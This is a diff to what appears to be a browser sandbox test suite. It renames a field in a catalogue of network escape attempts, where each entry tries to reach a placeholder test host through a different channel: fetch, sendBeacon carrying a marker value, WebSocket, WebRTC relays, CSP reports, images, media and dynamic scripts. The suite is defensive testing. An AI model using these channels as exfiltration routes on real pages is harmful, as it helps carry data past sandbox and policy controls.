@@ -7,21 +7,21 @@ export const NETWORK: EscapeClass = {
     {
       id: 'fetch',
       tries: 'fetch',
-      held: 'recorded',
+      outcome: 'recorded',
       control: true,
       script: (at) => `await fetch('${at.http}'); return 'out: answered'`,
     },
     {
       id: 'fetch-no-cors',
       tries: 'fetch without looking at the answer',
-      held: 'recorded',
+      outcome: 'recorded',
       control: true,
       script: (at) => `await fetch('${at.http}', { mode: 'no-cors', credentials: 'include' })`,
     },
     {
       id: 'fetch-keepalive',
       tries: 'fetch that outlives the page',
-      held: 'recorded',
+      outcome: 'recorded',
       control: true,
       script: (at) =>
         `await fetch('${at.http}', { method: 'POST', mode: 'no-cors', keepalive: true, body: '${at.needle}' })`,
@@ -29,7 +29,7 @@ export const NETWORK: EscapeClass = {
     {
       id: 'fetch-number',
       tries: 'fetch to an address by number',
-      held: 'recorded',
+      outcome: 'recorded',
       control: true,
       records: [['request-blocked', '(masked)']],
       script: (at) => `await fetch('${at.ip}', { mode: 'no-cors' })`,
@@ -37,35 +37,35 @@ export const NETWORK: EscapeClass = {
     {
       id: 'fetch-six',
       tries: 'fetch to an IPv6 address',
-      held: 'recorded',
+      outcome: 'recorded',
       records: [['request-blocked', '(masked)']],
       script: (at) => `await fetch('${at.ip6}', { mode: 'no-cors' })`,
     },
     {
       id: 'fetch-https',
       tries: 'fetch over TLS',
-      held: 'recorded',
+      outcome: 'recorded',
       control: true,
       script: (at) => `await fetch('${at.https}', { mode: 'no-cors' })`,
     },
     {
       id: 'fetch-user',
       tries: 'fetch with words as user name and password',
-      held: 'silent',
+      outcome: 'silent',
       why: 'an address with a user name is refused before anything is asked',
       script: (at) => `await fetch('${at.http.replace('//', `//${at.needle}:${at.needle}@`)}', { mode: 'no-cors' })`,
     },
     {
       id: 'fetch-stream',
       tries: 'fetch with a body that goes on and on',
-      held: 'recorded',
+      outcome: 'recorded',
       script: (at) =>
         `await fetch('${at.https}', { method: 'POST', duplex: 'half', body: new Blob(['${at.needle}']).stream() })`,
     },
     {
       id: 'fetch-later',
       tries: 'fetchLater, sent when the page goes',
-      held: 'silent',
+      outcome: 'silent',
       why: 'switched off by Permissions-Policy, which reports nothing for it',
       script: (at) =>
         `if (!isThere(window, 'fetchLater')) return 'absent'; fetchLater('${at.https}', { activateAfter: 0 })`,
@@ -73,7 +73,7 @@ export const NETWORK: EscapeClass = {
     {
       id: 'xhr',
       tries: 'XMLHttpRequest',
-      held: 'recorded',
+      outcome: 'recorded',
       control: true,
       script: (at) =>
         `const x = new XMLHttpRequest(); x.open('GET', '${at.http}'); x.send(); await new Promise((end) => { ` +
@@ -82,7 +82,7 @@ export const NETWORK: EscapeClass = {
     {
       id: 'xhr-sync',
       tries: 'XMLHttpRequest that the page waits for',
-      held: 'recorded',
+      outcome: 'recorded',
       control: true,
       records: [['permission-denied', 'sync-xhr']],
       script: (at) => `const x = new XMLHttpRequest(); x.open('GET', '${at.http}', false); x.send()`,
@@ -90,21 +90,21 @@ export const NETWORK: EscapeClass = {
     {
       id: 'websocket',
       tries: 'WebSocket',
-      held: 'recorded',
+      outcome: 'recorded',
       control: true,
       script: (at) => `new WebSocket('${at.ws}'); await wait(50)`,
     },
     {
       id: 'websocket-tls',
       tries: 'WebSocket over TLS',
-      held: 'recorded',
+      outcome: 'recorded',
       control: true,
       script: (at) => `new WebSocket('${at.wss}', ['${at.needle}']); await wait(50)`,
     },
     {
       id: 'websocket-stream',
       tries: 'WebSocketStream',
-      held: 'recorded',
+      outcome: 'recorded',
       script: (at) =>
         `if (!isThere(window, 'WebSocketStream')) return 'absent'; await new WebSocketStream('${at.ws}').opened; ` +
         `return 'out: open'`,
@@ -112,27 +112,27 @@ export const NETWORK: EscapeClass = {
     {
       id: 'eventsource',
       tries: 'EventSource',
-      held: 'recorded',
+      outcome: 'recorded',
       control: true,
       script: (at) => `const s = new EventSource('${at.http}'); await wait(50); s.close()`,
     },
     {
       id: 'beacon',
       tries: 'sendBeacon',
-      held: 'recorded',
+      outcome: 'recorded',
       control: true,
       script: (at) => `navigator.sendBeacon('${at.http}', '${at.needle}'); await wait(50)`,
     },
     {
       id: 'webtransport',
       tries: 'WebTransport',
-      held: 'recorded',
+      outcome: 'recorded',
       script: (at) => `await new WebTransport('${at.https}').ready; return 'out: ready'`,
     },
     {
       id: 'webrtc-stun',
       tries: 'a call that asks a STUN server by UDP',
-      held: 'silent',
+      outcome: 'silent',
       control: true,
       why: 'no datagram may leave around the proxy, so none is tried',
       script: (at) => call(`stun:127.0.0.1:${at.port}`),
@@ -140,7 +140,7 @@ export const NETWORK: EscapeClass = {
     {
       id: 'webrtc-turn-udp',
       tries: 'a call through a TURN relay by UDP',
-      held: 'silent',
+      outcome: 'silent',
       control: true,
       why: 'no datagram may leave around the proxy, so none is tried',
       script: (at) => call(`turn:127.0.0.1:${at.port}?transport=udp`),
@@ -148,7 +148,7 @@ export const NETWORK: EscapeClass = {
     {
       id: 'webrtc-turn-tcp',
       tries: 'a call through a TURN relay by TCP',
-      held: 'recorded',
+      outcome: 'recorded',
       control: true,
       records: [['request-blocked', '(masked)']],
       script: (at) => call(`turn:127.0.0.1:${at.port}?transport=tcp`),
@@ -156,19 +156,19 @@ export const NETWORK: EscapeClass = {
     {
       id: 'webrtc-turn-name',
       tries: 'a call through a TURN relay, with words in its name',
-      held: 'recorded',
+      outcome: 'recorded',
       script: (at) => call(`turn:${at.host}:${at.port}?transport=tcp`),
     },
     {
       id: 'webrtc-turns',
       tries: 'a call through a TURN relay by TLS',
-      held: 'recorded',
+      outcome: 'recorded',
       script: (at) => call(`turns:${at.host}:${at.port}?transport=tcp`),
     },
     {
       id: 'webrtc-peer',
       tries: 'a call to a peer at an address of its own',
-      held: 'silent',
+      outcome: 'silent',
       control: true,
       why: 'no datagram may leave around the proxy, so none is tried',
       script: (
@@ -181,7 +181,7 @@ export const NETWORK: EscapeClass = {
     {
       id: 'report-to',
       tries: "a report of a violation, by a policy of the page's own",
-      held: 'recorded',
+      outcome: 'recorded',
       script: (at) =>
         `add('meta', { 'http-equiv': 'Content-Security-Policy', content: "img-src 'none'; report-uri ${at.http}" ` +
         `}, document.head); new Image().src = '${at.http}'`,
@@ -189,7 +189,7 @@ export const NETWORK: EscapeClass = {
     {
       id: 'background-fetch',
       tries: 'a download in the background',
-      held: 'silent',
+      outcome: 'silent',
       script: (at) =>
         `if (!isThere(window, 'BackgroundFetchManager')) return 'absent'; const r = await ` +
         `navigator.serviceWorker.getRegistration(); if (r === undefined) return 'refused: no worker'; await ` +
@@ -199,35 +199,35 @@ export const NETWORK: EscapeClass = {
     {
       id: 'wasm-streaming',
       tries: 'a program compiled as it arrives',
-      held: 'recorded',
+      outcome: 'recorded',
       control: true,
       script: (at) => `await WebAssembly.compileStreaming(fetch('${at.http}.wasm'))`,
     },
     {
       id: 'image',
       tries: 'an image',
-      held: 'recorded',
+      outcome: 'recorded',
       control: true,
       script: (at) => `new Image().src = '${at.http}'; await wait(50)`,
     },
     {
       id: 'image-srcset',
       tries: 'an image that is chosen by size',
-      held: 'recorded',
+      outcome: 'recorded',
       control: true,
       script: element('img', 'srcset', (at) => `${at.http} 1x, ${at.http}2 2x`),
     },
     {
       id: 'image-attribution',
       tries: 'an image whose seeing is attributed',
-      held: 'recorded',
+      outcome: 'recorded',
       records: [['request-blocked', 'img-src: data']],
       script: element('img', 'attributionsrc', (at) => at.https, { src: 'data:,' }),
     },
     {
       id: 'svg-image',
       tries: 'an image inside a drawing',
-      held: 'recorded',
+      outcome: 'recorded',
       control: true,
       script: (at) =>
         `const s = leave(document.createElementNS('http://www.w3.org/2000/svg', 'svg')); const i = ` +
@@ -237,7 +237,7 @@ export const NETWORK: EscapeClass = {
     {
       id: 'svg-feimage',
       tries: 'an image inside a filter',
-      held: 'recorded',
+      outcome: 'recorded',
       control: true,
       script: (at) =>
         `const s = leave(document.createElementNS('http://www.w3.org/2000/svg', 'svg')); const f = ` +
@@ -248,7 +248,7 @@ export const NETWORK: EscapeClass = {
     {
       id: 'svg-use',
       tries: 'a drawing taken from elsewhere',
-      held: 'silent',
+      outcome: 'silent',
       why: 'the browser takes no drawing from another origin',
       script: (at) =>
         `const s = leave(document.createElementNS('http://www.w3.org/2000/svg', 'svg')); const u = ` +
@@ -258,28 +258,28 @@ export const NETWORK: EscapeClass = {
     {
       id: 'video',
       tries: 'a video',
-      held: 'recorded',
+      outcome: 'recorded',
       control: true,
       script: element('video', 'src', (at) => `${at.http}.mp4`, { preload: 'auto' }),
     },
     {
       id: 'video-poster',
       tries: 'the picture of a video',
-      held: 'recorded',
+      outcome: 'recorded',
       control: true,
       script: element('video', 'poster', (at) => at.http),
     },
     {
       id: 'audio',
       tries: 'a sound',
-      held: 'recorded',
+      outcome: 'recorded',
       control: true,
       script: element('audio', 'src', (at) => `${at.http}.mp3`, { preload: 'auto' }),
     },
     {
       id: 'track',
       tries: 'subtitles',
-      held: 'recorded',
+      outcome: 'recorded',
       script: (at) =>
         `const v = add('video', { src: 'data:video/mp4,' }); const t = add('track', { src: '${at.http}', ` +
         `default: '', kind: 'subtitles' }, v); t.track.mode = 'showing'; await wait(100)`,
@@ -287,7 +287,7 @@ export const NETWORK: EscapeClass = {
     {
       id: 'object',
       tries: 'an object',
-      held: 'recorded',
+      outcome: 'recorded',
       control: true,
       records: [['request-blocked', 'require-trusted-types-for: trusted-types-sink']],
       script: element('object', 'data', (at) => `${at.http}.png`),
@@ -295,41 +295,41 @@ export const NETWORK: EscapeClass = {
     {
       id: 'embed',
       tries: 'an embedded document',
-      held: 'recorded',
+      outcome: 'recorded',
       records: [['request-blocked', 'require-trusted-types-for: trusted-types-sink']],
       script: (at) => `add('embed', { src: '${at.http}.html' })`,
     },
     {
       id: 'input-image',
       tries: 'a button with an image',
-      held: 'recorded',
+      outcome: 'recorded',
       control: true,
       script: element('input', 'src', (at) => at.http, { type: 'image' }),
     },
     {
       id: 'icon',
       tries: 'the icon of the window',
-      held: 'recorded',
+      outcome: 'recorded',
       script: (at) => `add('link', { rel: 'icon', href: '${at.http}.png' }, document.head); await wait(100)`,
     },
     {
       id: 'stylesheet',
       tries: 'a style sheet',
-      held: 'recorded',
+      outcome: 'recorded',
       control: true,
       script: (at) => `add('link', { rel: 'stylesheet', href: '${at.http}.css' }, document.head); await wait(50)`,
     },
     {
       id: 'manifest',
       tries: 'a manifest',
-      held: 'silent',
+      outcome: 'silent',
       why: 'the window is no installed application, so nobody reads it',
       script: (at) => `add('link', { rel: 'manifest', href: '${at.http}' }, document.head); await wait(100)`,
     },
     {
       id: 'script',
       tries: 'a script from elsewhere',
-      held: 'recorded',
+      outcome: 'recorded',
       control: true,
       records: [['request-blocked', 'require-trusted-types-for: trusted-types-sink']],
       script: (at) =>
@@ -339,7 +339,7 @@ export const NETWORK: EscapeClass = {
     {
       id: 'script-svg',
       tries: 'a script inside a drawing',
-      held: 'recorded',
+      outcome: 'recorded',
       control: true,
       records: [['request-blocked', 'require-trusted-types-for: trusted-types-sink']],
       script: (at) =>
@@ -350,14 +350,14 @@ export const NETWORK: EscapeClass = {
     {
       id: 'import',
       tries: 'import()',
-      held: 'recorded',
+      outcome: 'recorded',
       control: true,
       script: (at) => `await import('${at.http}.js'); return 'out: ran'`,
     },
     {
       id: 'worklet',
       tries: 'a worklet for sound',
-      held: 'silent',
+      outcome: 'silent',
       control: true,
       why: 'refused by the policy of the page, which reports nothing for it',
       script: (at) =>
@@ -366,7 +366,7 @@ export const NETWORK: EscapeClass = {
     {
       id: 'paint-worklet',
       tries: 'a worklet for painting',
-      held: 'silent',
+      outcome: 'silent',
       control: true,
       why: 'refused by the policy of the page, which reports nothing for it',
       script: (at) => `await CSS.paintWorklet.addModule('${at.http}.js'); return 'out: ran'`,
